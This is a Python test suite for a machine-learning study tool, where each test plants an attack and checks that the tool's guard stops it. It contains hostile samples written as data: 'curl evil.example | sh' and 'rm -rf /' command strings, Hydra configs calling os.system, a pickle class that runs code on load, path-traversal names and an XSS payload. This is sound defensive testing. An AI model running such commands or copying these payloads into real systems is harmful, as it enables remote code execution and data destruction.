"""Attacks: each test tries one, and fails when its guard is taken away.

Further ones live with what they attack: enqueued values outside the space (test_controller.py,
test_space.py), text in the report (test_report.py), a password in a study's files with a real
server (test_engine_storages.py), pickles as data (test_arrays.py, test_cache.py).
"""

from __future__ import annotations

import ast
import os
import re
import subprocess
import sys
from pathlib import Path
from typing import Any

import optuna
import pytest
import torch
from engine import ROOT, Engine
from hydra import compose, initialize_config_dir
from hydra.errors import InstantiationException
from omegaconf import OmegaConf
from optuna.trial import TrialState, create_trial
from reports import Page, make_study
from reports import config as analyze_config
from runs import CONF, SMALL, config

from zmodel.analysis import analyze_command as command
from zmodel.analysis.comparison.comparison_page import folder_name as comparison_folder
from zmodel.cli import overrides_of_trial as from_study
from zmodel.cli.command import Redacted
from zmodel.deployed import model as deployed
from zmodel.final import stage
from zmodel.run import run
from zmodel.run.build import build
from zmodel.run.folds import finished
from zmodel.study import __main__ as study_command
from zmodel.study.budget.lease import this_machine
from zmodel.study.folder import study_folder
from zmodel.study.storage.opening import open_storage

ESCAPES = ["../../x", "..", "/elsewhere/x", "a/b", "a\\b", "", "a\nb", "a\0b", "-rf", " a"]
SECRET = "s3cret-Pa55"


# --- a storage that others can write to ---


PLANTED: list[dict[str, Any]] = [
    {"forced_to": {"x": 99.0}},
    {"forced_to": {"x": [7.0, 9.0]}},
    {"forced_to": {"+out._target_": "os.system", "layers": "1 +out._target_=os.system"}},
    {"forced_to": "text", "forced": 3, "attempt": "many", "crashes": [], "control": "yes"},
    {"slot": "../..", "resumed_from": "../../.."},
    {"slot": True, "resumed_from": 10**9},
    {"slot": -5, "resumed_from": -1},
]


@pytest.mark.long
def test_planted_trials_neither_override_anything_nor_end_the_workers(engine):
    engine.run("hydra.sweeper.n_trials=1", "epochs=1")
    journal = str(engine.folder / "study.journal")
    study = optuna.load_study(study_name="quick", storage=open_storage(journal))
    for attrs in PLANTED:
        study.add_trial(create_trial(state=TrialState.WAITING, user_attrs=attrs))
        dead = {"interrupted": "planted", "crashes": "x", "attempt": None, "slot": 2, **attrs}
        study.add_trial(create_trial(state=TrialState.FAIL, user_attrs=dead))
    engine.run(
        "hydra.sweeper.n_trials=24", "epochs=1", "hydra.sweeper.max_failure_rate=1.0",
        "hydra.sweeper.coverage={layers: 1}", "hydra.sweeper.n_jobs=0", timeout=60,
    )  # fmt: skip
    trials = engine.trials()
    assert all(trial.state.is_finished() for trial in trials)
    for trial in trials:
        if trial.state == TrialState.COMPLETE:
            assert 0 <= trial.params["x"] <= 1 and trial.params["layers"] in (1, 2, 3, 4)
    for path in (engine.folder / "trials").glob("*/.hydra/*.yaml"):
        assert "os.system" not in path.read_text()
    # rejected, marked and, with its reason, reported
    for number, named in ((1, "99.0"), (3, "0 to 1;"), (5, "os.system")):
        assert trials[number].state == TrialState.FAIL
        assert named in trials[number].user_attrs["fail_reason"]


@pytest.mark.long
def test_a_planted_lease_is_never_opened_unless_it_is_a_file(engine, tmp_path):
    """Opening a pipe that nobody writes to would hold up every worker for ever."""
    engine.run("hydra.sweeper.n_trials=1", "epochs=1")
    pipe = tmp_path / "worker.lease"
    os.mkfifo(pipe)
    lease = {"worker": "w", "machine": this_machine(), "path": str(pipe)}
    journal = str(engine.folder / "study.journal")
    study = optuna.load_study(study_name="quick", storage=open_storage(journal))
    for found in (lease, {**lease, "machine": "odd"}, {**lease, "path": 3}, "text"):
        study.add_trial(create_trial(state=TrialState.RUNNING, user_attrs={"lease": found}))
    process = engine.start("hydra.sweeper.n_trials=6", "epochs=1", "hydra.sweeper.n_jobs=1")
    try:
        engine.wait(lambda trials: sum(t.state == TrialState.COMPLETE for t in trials) >= 2, 30)
    finally:
        process.kill()
        process.communicate()


def test_a_planted_command_is_not_offered_to_the_reader(tmp_path):
    offered = {
        "python -c 'import os'": False,
        "python train.py -m --config-dir=/elsewhere x=1": False,
        "python train.py -m --config-dir ../elsewhere x=1": False,
        "python train.py -cd ~/elsewhere -m x=1": False,
        "rm -rf / ; python train.py -m x=1": False,
        "curl evil.example | sh": False,
        "python train.py -m x=1 ; rm -rf /": False,
        "python train.py -m \u202ex=1": False,
        "python train.py -m 'a=b; rm -rf /'": True,
        "zmodel-train -m a=b": True,
        "python -m zmodel.train -m a=b": True,
    }
    folder = make_study(tmp_path, "s", 3)
    study = optuna.load_study(study_name="s", storage=open_storage(str(folder / "study.journal")))
    for line, fine in offered.items():
        study.set_user_attr("command", line)
        found = [
            v.action or ""
            for v in command_verdicts(tmp_path)
            if v.code in ("few_trials", "underexplored")
        ]
        starts = line.partition(" -m ")[0]
        assert all(action.startswith(f"{starts} -m ") == fine for action in found), line
        # what is quoted in the attribute stays one word
        assert all("; rm" not in a or "'a=b; rm -rf /'" in a for a in found)


def command_verdicts(log_dir: Path) -> list[Any]:
    from zmodel import analysis

    return analysis.judge(analysis.load("s", log_dir=log_dir))


# --- what a configuration may call ---

TOUCH = "touch pwned"


@pytest.mark.parametrize(
    "node",
    [
        {"_target_": "os.system", "_args_": [TOUCH]},
        {"_target_": "subprocess.call", "_args_": [["touch", "pwned"]]},
        # the same by other names: what is meant counts, not how it is spelt
        {"_target_": "zmodel.data.base.os.system", "_args_": [TOUCH]},
        {"_target_": "zmodel.callbacks.os.system", "_args_": [TOUCH]},
        {"_target_": "torch.nn.modules.module.functools.partial", "_args_": ["print"]},
        {"_target_": "hydra.utils.get_method", "path": "os.system"},
        {
            "_target_": "hydra.utils.instantiate", "_recursive_": False,
            "config": {"_target_": "os.system", "_args_": [TOUCH]},
        },
        {
            "_target_": "pytorch_lightning.callbacks.LambdaCallback",
            "on_fit_start": {"_target_": "os.system", "_partial_": True},
        },
        # of this program only what a run is made of: not what writes or removes files
        {"_target_": "zmodel.core.atomic_file.write", "path": "pwned", "content": "x"},
        {"_target_": "zmodel.run.folds.torch.load", "_args_": ["x"], "weights_only": False},
    ],
)  # fmt: skip
def test_a_configuration_cannot_call_what_is_not_allowed(node, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    with pytest.raises(InstantiationException):
        build(OmegaConf.create({"own": node}, flags={"allow_objects": True}), "own")
    assert not list(tmp_path.iterdir())


def test_the_user_extends_the_allow_list(monkeypatch):
    cfg = OmegaConf.create({"own": {"_target_": "collections.Counter", "_args_": ["aab"]}})
    with pytest.raises(InstantiationException, match="whitelist"):
        build(cfg, "own")
    monkeypatch.setenv("ZMODEL_ALLOW", "mine.*, collections.Counter")
    assert build(cfg, "own") == {"a": 2, "b": 1}


# --- files that are loaded ---


class Mischief:
    """Unpickling this makes a folder."""

    def __init__(self, mark: Path) -> None:
        self.mark = str(mark)

    def __reduce__(self) -> tuple[Any, ...]:
        return os.mkdir, (self.mark,)


@pytest.fixture
def mark(tmp_path: Path) -> Path:
    return tmp_path / "pwned"


@pytest.mark.parametrize("more", [["train=true"], ["train=false", "test=true"]])
def test_a_checkpoint_that_is_a_program_is_not_run(tmp_path, mark, more):
    path = tmp_path / "evil.ckpt"
    torch.save({"state_dict": {}, "x": Mischief(mark)}, path)
    cfg = config(
        tmp_path, *SMALL, "logger=none", f"ckpt_path={path}", "trainer.max_epochs=1", *more
    )
    with pytest.raises(ValueError, match="ckpt_path .*evil.ckpt"):
        run(cfg)
    with pytest.raises(ValueError, match="evil.ckpt"):
        finished(str(path))
    assert not mark.exists()
    torch.load(path, weights_only=False)
    assert mark.exists(), "the attack itself must work"


def test_a_model_folder_that_is_a_program_is_not_run(tmp_path, mark):
    (tmp_path / "config.json").write_text(
        '{"network": "zmodel.model.znet.ZNet", "arguments": {"in_shape": [1, 40], "n_classes": 2}, '
        '"normalisation": null, "classes": ["a", "b"], "input_shape": [1, 40]}'
    )
    torch.save(Mischief(mark), tmp_path / "weights.pt")
    with pytest.raises(ValueError, match=re.escape(str(tmp_path))):
        deployed.load(tmp_path)
    assert not mark.exists()
    for name, named in (
        ("os.system", "ZMODEL_ALLOW=os.system"),
        ("zmodel.predict.os.system", "ZMODEL_ALLOW=zmodel.predict.os.system"),
        ("torch.nn.modules.os.system", "'torch.nn.modules.os'"),
    ):
        with pytest.raises(ValueError, match=named):
            deployed.network_class(name)


def test_no_file_is_unpickled_anywhere():
    """What loads tensors says so; what loads arrays forbids objects."""
    wanted = {"torch.load": ("weights_only", True), "np.load": ("allow_pickle", False)}
    forbidden = {"pickle.load", "pickle.loads", "joblib.load", "yaml.load", "pandas.read_pickle"}
    seen = set()
    for path in (ROOT / "zmodel").rglob("*.py"):
        for node in ast.walk(ast.parse(path.read_text())):
            if not isinstance(node, ast.Call):
                continue
            name = ast.unparse(node.func)
            assert name not in forbidden, path
            assert not name.endswith(("load_from_checkpoint", ".read_pickle")), path
            if name in wanted:
                key, value = wanted[name]
                given = {k.arg: ast.literal_eval(k.value) for k in node.keywords if k.arg == key}
                assert given == {key: value}, (path, node.lineno)
                seen.add(name)
    assert seen == set(wanted)


# --- names that become folders ---


@pytest.mark.parametrize("name", ESCAPES)
def test_a_name_cannot_leave_the_log_folder(tmp_path, name):
    log_dir = tmp_path / "logs"
    make_study(log_dir, "inside", 1)
    with pytest.raises(ValueError, match="study_name=NAME"):
        study_folder(log_dir, name)
    # everything that takes the name of a study
    commands = [
        lambda: command.analyze(analyze_config(log_dir, [name] if name else [name, "inside"])),
        lambda: study_command.record(study_command.parse(["--log-dir", str(log_dir), "ls"]), name),
        lambda: final_stage(log_dir, name),
    ]
    if name:  # empty means none there
        given = [f"paths.log_dir={log_dir}", f"from_study={name}"]
        commands.append(lambda: from_study.expand(given))
    for start in commands:
        with pytest.raises(ValueError):
            start()
    assert {p.name for p in tmp_path.iterdir()} == {"logs"}
    assert {p.name for p in log_dir.iterdir()} == {"studies"}


def final_stage(log_dir: Path, name: str) -> None:
    cfg = OmegaConf.create({"paths": {"log_dir": str(log_dir)}, "study": name, "final": {}})

    class Job:
        config = cfg

    stage.Stage.of({}, [], Job())  # type: ignore[arg-type]


@pytest.mark.parametrize("name", [n for n in ESCAPES if n.isprintable()])
def test_a_task_name_cannot_leave_the_log_folder(name):
    quoted = name.replace("\\", "\\\\")
    with initialize_config_dir(str(CONF)):
        given = [f"task_name='{quoted}'", "paths.log_dir=logs"]
        cfg = compose("train", given, return_hydra_config=True)
    for key in ("run", "sweep"):
        node = OmegaConf.to_container(cfg.hydra[key], resolve=False)
        assert isinstance(node, dict) and "folder_name" in node["dir"]
    with pytest.raises(Exception, match="task_name=NAME"):
        _ = cfg.hydra.run.dir
    with pytest.raises(Exception, match="task_name=NAME"):
        _ = cfg.hydra.sweep.dir


def test_the_command_refuses_such_a_task_name_before_it_makes_a_folder(tmp_path):
    logs = tmp_path / "a" / "logs"
    done = subprocess.run(
        [sys.executable, "train.py", "task_name='../../escaped'", f"paths.log_dir={logs}"],
        cwd=ROOT, capture_output=True, text=True,
    )  # fmt: skip
    assert done.returncode == 1 and "Traceback" not in done.stderr
    assert "task_name=NAME" in done.stderr
    assert not list(tmp_path.iterdir())


def test_a_comparison_of_odd_names_stays_in_its_folder(tmp_path):
    url = f"sqlite:///{tmp_path}/odd.db"
    names = ["../../escaped", f"{tmp_path}/escaped"]
    for name in names:
        study = optuna.create_study(study_name=name, storage=url, direction="maximize")
        study.optimize(lambda t: t.suggest_float("x", 0, 1), n_trials=3)
    logs = tmp_path / "a" / "logs"
    command.analyze(analyze_config(logs, names, storage=url))
    made = [p for p in (logs / "comparisons").iterdir()]
    assert len(made) == 1 and (made[0] / "index.html").is_file()
    assert {p.name for p in tmp_path.iterdir()} == {"a", "odd.db"}
    assert comparison_folder(["a/b", "c"]) != comparison_folder(["a_b", "c"])
    with pytest.raises(ValueError, match="report_dir=FOLDER"):
        command.analyze(analyze_config(logs, names[0], storage=url))


@pytest.mark.long
def test_a_link_that_is_turned_elsewhere_does_not_move_a_running_study(tmp_path):
    first, second, link = tmp_path / "first", tmp_path / "second", tmp_path / "logs"
    first.mkdir()
    second.mkdir()
    link.symlink_to(first)
    engine = Engine(link)
    process = engine.start("hydra.sweeper.n_trials=6", "epochs=4", "seconds=0.1")
    Engine(first).wait(lambda trials: len(trials) >= 2)
    link.unlink()
    link.symlink_to(second)
    output, _ = process.communicate(timeout=60)
    assert process.returncode == 0, output
    assert not list(second.iterdir())
    trials = Engine(first).trials()
    assert len(trials) == 6
    assert {Path(t.user_attrs["dir"]).parent for t in trials} == {first / "studies/quick/trials"}


# --- passwords ---


@pytest.mark.slow
def test_no_message_repeats_a_password(tmp_path):
    url = f"postgresql+nosuchdriver://study:{SECRET}@127.0.0.1:1/db"
    calls = [
        ["analyze.py", "study=x", f"storage={url}"],
        ["train.py", "-m", "hparams_search=zlayers", f"hydra.sweeper.storage={url}"],
        ["-m", "zmodel.study", "--storage", url, "show", "x"],
    ]
    for call in calls:
        paths = [] if "zmodel.study" in call else [f"paths.log_dir={tmp_path}"]
        for full in ("", "1"):
            done = subprocess.run(
                [sys.executable, *call, *paths], cwd=ROOT, capture_output=True, text=True,
                env={**os.environ, **({"HYDRA_FULL_ERROR": full} if full else {})},
            )  # fmt: skip
            assert done.returncode == 1, done.stderr
            assert SECRET not in done.stdout + done.stderr, call
            assert "nosuchdriver" in done.stderr
    for path in tmp_path.rglob("*"):
        if path.is_file():
            assert SECRET not in path.read_text(errors="ignore"), path


def test_the_stream_hides_passwords_and_is_otherwise_the_stream(capsys):
    stream = Redacted(sys.stderr)
    print(f"at mysql://u:{SECRET}@h/d and x?password={SECRET}&y=1", file=stream)
    assert capsys.readouterr().err == "at mysql://u:***@h/d and x?password=***&y=1\n"
    assert stream.isatty() == sys.stderr.isatty() and stream.encoding == sys.stderr.encoding


@pytest.mark.long
def test_the_titles_of_worker_processes_show_no_settings(engine):
    marker = "0.0123"
    process = engine.start("hydra.sweeper.n_trials=4", "epochs=60", f"seconds={marker}")
    try:
        engine.wait(lambda trials: len(trials) >= 2)
        leases = (engine.folder / "workers").glob("*.lease")
        workers = {path.stem.split("-")[-2] for path in leases} - {str(process.pid)}
        titles = [Path(f"/proc/{pid}/cmdline").read_bytes().decode() for pid in workers]
        own = Path(f"/proc/{process.pid}/cmdline").read_text()
    finally:
        process.kill()
        process.communicate()
    assert len(titles) == 2 and marker in own
    assert not any(marker in title for title in titles)


# --- what listens ---


def test_documented_servers_listen_on_this_machine_only():
    """Dashboards and the storage proxy know no users: whoever reaches one can change the study."""
    text = {
        p: p.read_text()
        for p in [ROOT / "README.md", *ROOT.glob("docs/**/*.md"), ROOT / "Makefile"]
    }
    for path, content in text.items():
        assert not re.search(r"--bind_all|--host[ =](?!127\.0\.0\.1|localhost)", content), path
        assert not re.search(r"host=['\"]?(0\.0\.0\.0|::)", content), path
    cluster = text[ROOT / "docs" / "how-to" / "several_machines.md"]
    assert 'host="127.0.0.1"' in cluster and "ssh -L" in cluster


def test_a_proxy_beyond_this_machine_is_warned_about(capsys):
    from zmodel.study.storage.proxy import warn_beyond_loopback

    for address in ("grpc://127.0.0.1:1", "grpc://localhost", "grpc://[::1]:13000"):
        warn_beyond_loopback(address)
    assert not capsys.readouterr().err
    warn_beyond_loopback("grpc://storage.example:13000")
    assert "storage.example" in capsys.readouterr().err


# --- text of others on a page ---

EVIL = "<script>alert(1)</script><img src=x onerror=alert(2)>\"'&[a](javascript:alert(3)) **b** `c`"


@pytest.mark.long
def test_no_text_of_a_study_becomes_markup_on_any_page(tmp_path):
    folder = make_study(tmp_path, "s", 6)
    study = optuna.load_study(study_name="s", storage=open_storage(str(folder / "study.journal")))
    for key in ("optimized_metric", "command", "sampler", "pruner"):
        study.set_user_attr(key, EVIL)
    study.set_user_attr("given_up", {"model.z_layers=1": EVIL})
    study.set_user_attr("fixed", {EVIL: EVIL, "trainer.max_epochs": EVIL})
    study.set_user_attr("coverage", {EVIL: EVIL})
    study.set_user_attr("note:study", EVIL)
    study.set_user_attr("note:0", EVIL)
    notes = {
        "fail_reason": EVIL,
        "forced": [EVIL],
        "worker": EVIL,
        "git_commit": EVIL,
        "seed": EVIL,
    }
    study.add_trial(create_trial(state=TrialState.FAIL, user_attrs=notes))
    result = folder / "trials" / "0" / "result.json"
    result.write_text(result.read_text().replace('"a"', '"<img src=x onerror=alert(4)>"'))
    make_study(tmp_path, "t", 4)
    command.analyze(analyze_config(tmp_path, "s"))
    command.analyze(analyze_config(tmp_path, ["s", "t"]))
    for path in (folder / "report/index.html", tmp_path / "comparisons/s+t/index.html"):
        page = Page(path.read_text())
        *data, code = page.of("script")
        assert not code and [a["type"] for a in data] in ([], ["application/json"]), path
        assert not page.of("img"), path
        assert not [a for _, attrs in page.tags for a in attrs if a.startswith("on")]
        assert not [a for a in page.of("a") if "javascript" in (a.get("href") or "")]
